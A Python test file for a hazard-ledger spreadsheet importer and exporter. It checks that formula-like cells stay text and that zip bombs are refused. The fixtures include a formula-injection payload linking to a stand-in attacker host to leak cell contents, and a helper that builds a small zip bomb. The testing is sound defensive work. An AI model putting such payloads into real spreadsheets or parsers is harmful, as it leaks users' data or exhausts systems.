"""Spreadsheets out and in (issue 15, item 14): formula-like text stays text, zip bombs are not parsed.

Before the fix the hazard ledger export wrote a description "=HYPERLINK(…)" as a formula (openpyxl
infers one from a leading "="), and the three importers handed any .xlsx to openpyxl, however far it
inflates.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook, load_workbook

from handlers.hazards import SheetError, export_sheet, import_sheet
from handlers.questions import QuestionSheetError, import_questions
from handlers.roster import RosterError, import_roster
from handlers.rulebook import Rules
from handlers.spreadsheets import csv_safe, csv_unescape, text_row, xlsx_problem
from store import HazardRepo, make_engine, make_session_factory, upgrade
from tests.conftest import database_url

NOW = datetime(2026, 11, 30, 2, 0, tzinfo=UTC)
RULES = Rules.bundled()
HEADER = ["企业名称", "隐患描述", "隐患级别", "发现方式", "发现日期", "整改期限", "责任人", "整改措施", "状态"]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138 0000 0000", "-1+2", "@SUM(1,2)"]


@pytest.fixture
def factory(tmp_path: Path):
    url = database_url(tmp_path / "s.db")
    upgrade(url)
    engine = make_engine(url)
    yield make_session_factory(engine)
    engine.dispose()


def _ledger_with(tmp_path: Path, descriptions: list[str]) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for n, text in enumerate(descriptions, start=2):
        ws.append([f"企业{n}", text, "一般", "部门排查", "2026-11-01", "2026-12-31", "张三", "整改", "待整改"])
        ws.cell(row=n, column=2).data_type = "s"  # as a citizen's text arrives: a string, not a formula
    path = tmp_path / "in.xlsx"
    wb.save(path)
    return path


def test_exported_cells_that_look_like_formulas_are_text(factory, tmp_path: Path) -> None:
    with factory.begin() as s:
        import_sheet(s, _ledger_with(tmp_path, HOSTILE), actor="t", now=NOW, terms=RULES.hazards)
    out = tmp_path / "out.xlsx"
    with factory() as s:
        assert export_sheet(s, out, RULES.hazards) == 4
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere
    ws = load_workbook(out).worksheets[0]
    col = [c.value for c in ws[1]].index("隐患描述") + 1
    cells = [ws.cell(row=r, column=col) for r in range(2, 6)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE) and {c.data_type for c in cells} == {"s"}
    with factory.begin() as s:  # the export re-imports unchanged: the values were kept exactly
        report = import_sheet(s, out, actor="t", now=NOW, terms=RULES.hazards)
    assert not report.changed
    with factory() as s:
        assert sorted(h.description for h in HazardRepo(s).search()) == sorted(HOSTILE)


def test_text_row_and_csv_escape() -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    row = text_row(ws, ["=1+1", "普通文字", 3])
    assert row[0].data_type == "s" and row[0].value == "=1+1" and row[1:] == ["普通文字", 3]
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_safe(HOSTILE + ["正常", "'引号"]))
    cells = next(csv.reader(io.StringIO(buf.getvalue())))
    assert all(c.startswith("'") for c in cells[:4]) and cells[4:] == ["正常", "'引号"]
    assert [csv_unescape(c) for c in cells] == HOSTILE + ["正常", "'引号"]


def _bomb(path: Path, inflated: int = 4 * 1024 * 1024) -> Path:
    """A workbook-shaped zip whose sheet is ``inflated`` bytes of one repeated byte (a ratio near 1000:1)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b" " * (1024 * 1024)
            for _ in range(inflated // len(chunk)):
                member.write(chunk)
    return path


def test_zip_bombs_are_refused_before_openpyxl_sees_them(factory, tmp_path: Path, monkeypatch) -> None:
    bomb = _bomb(tmp_path / "bomb.xlsx")
    assert "膨胀" in (xlsx_problem(bomb) or "")

    def never(*_a, **_k):
        raise AssertionError("openpyxl was asked to parse a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with factory.begin() as s:
        with pytest.raises(SheetError, match="膨胀"):
            import_sheet(s, bomb, actor="t", now=NOW, terms=RULES.hazards)
        with pytest.raises(RosterError, match="膨胀"):
            import_roster(s, bomb, RULES.roster)
        with pytest.raises(QuestionSheetError, match="膨胀"):
            import_questions(s, bomb)


def test_the_limits_on_total_size_and_members(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(["a"] * 50)
    ok = tmp_path / "ok.xlsx"
    wb.save(ok)
    assert xlsx_problem(ok) is None
    assert "超过" in (xlsx_problem(ok, max_bytes=100) or "")
    assert "过多" in (xlsx_problem(ok, max_members=2) or "")
    (tmp_path / "not.xlsx").write_bytes(b"PK not a zip")
    assert "无法读取" in (xlsx_problem(tmp_path / "not.xlsx") or "")
